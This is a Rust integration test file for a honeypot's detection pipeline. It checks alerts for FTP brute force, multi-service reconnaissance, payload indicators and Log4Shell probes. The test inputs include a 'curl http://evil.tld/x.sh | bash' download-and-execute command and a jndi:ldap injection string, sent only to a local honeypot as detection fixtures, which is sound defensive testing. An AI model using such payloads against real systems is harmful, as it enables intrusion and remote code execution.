// SPDX-License-Identifier: BUSL-1.1
// Copyright (c) 2026 Alfred Jean LLC

//! End-to-end capture-pipeline scenarios: sliding-window detection over real
//! wire traffic, payload IOC extraction, and joint reset behavior.

use std::time::Duration;

use mantis::models::ServiceKind;
use mantis::storage::EventQuery;
use mantis_specs::{count_alerts, service_addr, spawn_honeypot, wait_for_alerts, wait_for_events};
use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};
use tokio::net::TcpStream;

const TIMEOUT: Duration = Duration::from_secs(10);

#[tokio::test]
async fn brute_force_alert_is_sticky() -> anyhow::Result<()> {
    let honeypot = spawn_honeypot(&[ServiceKind::Ftp]).await?;
    let addr = service_addr(&honeypot, ServiceKind::Ftp).await?;

    let stream = TcpStream::connect(addr).await?;
    let (read_half, mut writer) = stream.into_split();
    let mut reader = BufReader::new(read_half);
    let mut line = String::new();
    tokio::time::timeout(TIMEOUT, reader.read_line(&mut line)).await??; // banner

    // Each USER/PASS pair logs two auth_attempt events; ten pairs cross the
    // 20-attempt threshold.
    for i in 0..10 {
        writer.write_all(format!("USER bot{i}\r\n").as_bytes()).await?;
        line.clear();
        tokio::time::timeout(TIMEOUT, reader.read_line(&mut line)).await??;
        writer.write_all(b"PASS guess\r\n").await?;
        line.clear();
        tokio::time::timeout(TIMEOUT, reader.read_line(&mut line)).await??;
    }

    wait_for_events(
        &honeypot,
        &EventQuery { event_type: Some("auth_attempt".into()), ..Default::default() },
        20,
    )
    .await?;
    let alerts = wait_for_alerts(&honeypot, "brute_force", 1).await?;
    assert_eq!(alerts[0]["severity"], "high");

    // More attempts from the same source must not re-alert.
    for _ in 0..5 {
        writer.write_all(b"USER again\r\n").await?;
        line.clear();
        tokio::time::timeout(TIMEOUT, reader.read_line(&mut line)).await??;
        writer.write_all(b"PASS again\r\n").await?;
        line.clear();
        tokio::time::timeout(TIMEOUT, reader.read_line(&mut line)).await??;
    }
    wait_for_events(
        &honeypot,
        &EventQuery { event_type: Some("auth_attempt".into()), ..Default::default() },
        30,
    )
    .await?;
    assert_eq!(count_alerts(&honeypot, "brute_force")?, 1, "brute_force is sticky per IP");

    writer.write_all(b"QUIT\r\n").await?;
    Ok(())
}

#[tokio::test]
async fn reconnaissance_across_three_services() -> anyhow::Result<()> {
    let honeypot =
        spawn_honeypot(&[ServiceKind::Ftp, ServiceKind::Redis, ServiceKind::Smtp]).await?;

    for kind in [ServiceKind::Ftp, ServiceKind::Redis, ServiceKind::Smtp] {
        let addr = service_addr(&honeypot, kind).await?;
        let mut stream = TcpStream::connect(addr).await?;
        // A bare connect is enough to record the connection event.
        let _ = stream.write_all(b"\r\n").await;
        drop(stream);
    }

    let alerts = wait_for_alerts(&honeypot, "reconnaissance", 1).await?;
    assert_eq!(alerts[0]["severity"], "medium");
    for service in ["ftp", "redis", "smtp"] {
        let message = alerts[0]["message"].as_str().unwrap();
        assert!(message.contains(service), "alert must list {service}: {message}");
    }
    Ok(())
}

#[tokio::test]
async fn http_payload_download_pipe_detection() -> anyhow::Result<()> {
    let honeypot = spawn_honeypot(&[ServiceKind::Http]).await?;
    let addr = service_addr(&honeypot, ServiceKind::Http).await?;

    let client = reqwest::Client::new();
    let response = client
        .post(format!("http://{addr}/cgi-bin/run"))
        .body("curl http://evil.tld/x.sh | bash")
        .timeout(TIMEOUT)
        .send()
        .await?;
    assert_eq!(response.status(), 404);

    let alerts = wait_for_alerts(&honeypot, "payload_ioc", 1).await?;
    assert_eq!(alerts[0]["severity"], "critical");
    let names: Vec<&str> = alerts[0]["data"]["patterns"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|p| p["name"].as_str())
        .collect();
    assert!(names.contains(&"curl_download"));
    assert!(names.contains(&"curl_pipe_sh"));
    assert_eq!(alerts[0]["data"]["iocs"]["urls"][0], "http://evil.tld/x.sh");
    Ok(())
}

#[tokio::test]
async fn log4shell_probe_embeds_threats_and_alerts() -> anyhow::Result<()> {
    let honeypot = spawn_honeypot(&[ServiceKind::Http]).await?;
    let addr = service_addr(&honeypot, ServiceKind::Http).await?;

    let client = reqwest::Client::new();
    let response = client
        .get(format!("http://{addr}/api?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D"))
        .timeout(TIMEOUT)
        .send()
        .await?;
    assert_eq!(response.status(), 200);

    let requests = wait_for_events(
        &honeypot,
        &EventQuery { event_type: Some("request".into()), ..Default::default() },
        1,
    )
    .await?;
    let threats = requests[0]["data"]["threats"].as_array().expect("threats embedded");
    assert!(threats.iter().any(|t| t["name"] == "log4shell" && t["severity"] == "critical"));

    let alerts = wait_for_alerts(&honeypot, "http_threat", 1).await?;
    assert_eq!(alerts[0]["severity"], "critical");
    Ok(())
}

#[tokio::test]
async fn reset_clears_data_and_stateful_rules() -> anyhow::Result<()> {
    let honeypot = spawn_honeypot(&[ServiceKind::Ftp]).await?;
    let addr = service_addr(&honeypot, ServiceKind::Ftp).await?;

    // Cross the brute-force threshold.
    let stream = TcpStream::connect(addr).await?;
    let (read_half, mut writer) = stream.into_split();
    let mut reader = BufReader::new(read_half);
    let mut line = String::new();
    tokio::time::timeout(TIMEOUT, reader.read_line(&mut line)).await??;
    for _ in 0..10 {
        writer.write_all(b"USER x\r\n").await?;
        line.clear();
        tokio::time::timeout(TIMEOUT, reader.read_line(&mut line)).await??;
        writer.write_all(b"PASS y\r\n").await?;
        line.clear();
        tokio::time::timeout(TIMEOUT, reader.read_line(&mut line)).await??;
    }
    wait_for_alerts(&honeypot, "brute_force", 1).await?;
    writer.write_all(b"QUIT\r\n").await?;

    honeypot.reset_database()?;
    assert_eq!(honeypot.storage.get_stats()?.total_events, 0);
    assert_eq!(honeypot.storage.get_alerts(100, false)?.len(), 0);

    // A few attempts from the previously-alerted IP must not re-alert
    // immediately after the joint reset.
    let stream = TcpStream::connect(addr).await?;
    let (read_half, mut writer) = stream.into_split();
    let mut reader = BufReader::new(read_half);
    line.clear();
    tokio::time::timeout(TIMEOUT, reader.read_line(&mut line)).await??;
    for _ in 0..3 {
        writer.write_all(b"USER x\r\n").await?;
        line.clear();
        tokio::time::timeout(TIMEOUT, reader.read_line(&mut line)).await??;
        writer.write_all(b"PASS y\r\n").await?;
        line.clear();
        tokio::time::timeout(TIMEOUT, reader.read_line(&mut line)).await??;
    }
    wait_for_events(
        &honeypot,
        &EventQuery { event_type: Some("auth_attempt".into()), ..Default::default() },
        6,
    )
    .await?;
    assert_eq!(count_alerts(&honeypot, "brute_force")?, 0);
    Ok(())
}
